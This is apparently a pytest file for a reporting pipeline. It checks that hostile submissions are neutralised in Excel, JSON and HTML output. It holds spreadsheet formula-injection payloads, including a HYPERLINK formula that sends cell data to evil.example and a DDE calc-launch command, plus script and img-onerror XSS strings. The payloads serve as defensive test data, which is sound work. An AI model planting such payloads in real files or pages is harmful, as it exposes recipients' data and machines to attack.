"""Hostile submissions: formulas never execute in a workbook, markup never runs in HTML."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from pipeline.run import MeetingRun
from tests.pipeline.render.sample_run import Sample

Write = Callable[[MeetingRun], Path]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path: Path, sheet: str) -> list[object]:
    ws = openpyxl.load_workbook(path)[sheet]
    return [c.value for row in ws.iter_rows(min_row=3) for c in row]


@pytest.mark.parametrize("payload", HOSTILE, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_formula_text_is_neutralised_in_every_workbook(
    sample: Sample, write_outputs: Write, payload: str
) -> None:
    sample.builder.add(
        "police",
        event_date=date(2026, 11, 2),
        summary=payload,
        decided_by=payload,
        legal_power=payload,
        rationale=payload,
    )
    out = write_outputs(sample.run)
    for path in (out / "bundles" / "FAM-001.xlsx", out / "recipients" / "police" / "FAM-001.xlsx"):
        text = [v for v in _cells(path, "Chronology") if isinstance(v, str) and payload[1:] in v]
        basis = [v for v in _cells(path, "Sharing basis") if isinstance(v, str) and payload[1:] in v]
        assert text and len(basis) >= 3
        for value in text + basis:
            assert value.startswith("'"), (path.name, value)
    # JSON keeps the text as given (it is data, not a spreadsheet)
    doc = json.loads((out / "bundles" / "FAM-001.json").read_text())
    assert payload in [i["text"] for i in doc["items"]]


def test_hostile_subject_name_and_file_name_are_neutralised(sample: Sample, write_outputs: Write) -> None:
    sample.builder.add("police", subject_name="=cmd()", summary="Seen on Elm Road at night.")
    out = write_outputs(sample.run)
    for sheet in ("Chronology", "Sharing basis"):
        values = _cells(out / "bundles" / "FAM-001.xlsx", sheet)
        assert "'=cmd()" in values and "=cmd()" not in values


def test_control_characters_do_not_break_the_workbook(sample: Sample, write_outputs: Write) -> None:
    sample.builder.add("police", summary="Bell\x07 and escape\x1b in text.")
    out = write_outputs(sample.run)
    values = _cells(out / "bundles" / "FAM-001.xlsx", "Chronology")
    assert "Bell\ufffd and escape\ufffd in text." in values


def test_markup_is_escaped_in_html(sample: Sample, write_outputs: Write) -> None:
    sample.builder.add(
        "police",
        subject_name="<b>Tyler</b>",
        summary='<script>alert("x")</script><img src=x onerror=alert(1)> & "quotes"',
        rationale="</td></tr></table><script>bad()</script>",
    )
    out = write_outputs(sample.run)
    for path in (out / "bundles" / "FAM-001.html", out / "recipients" / "police" / "FAM-001.html"):
        html = path.read_text()
        assert "<script" not in html.lower()
        assert "<img" not in html  # only the escaped text "&lt;img src=x ...&gt;" remains
        assert "&lt;img src=x onerror=alert(1)&gt;" in html
        assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
        assert "&lt;b&gt;Tyler&lt;/b&gt;" in html
        assert "&amp; &#34;quotes&#34;" in html
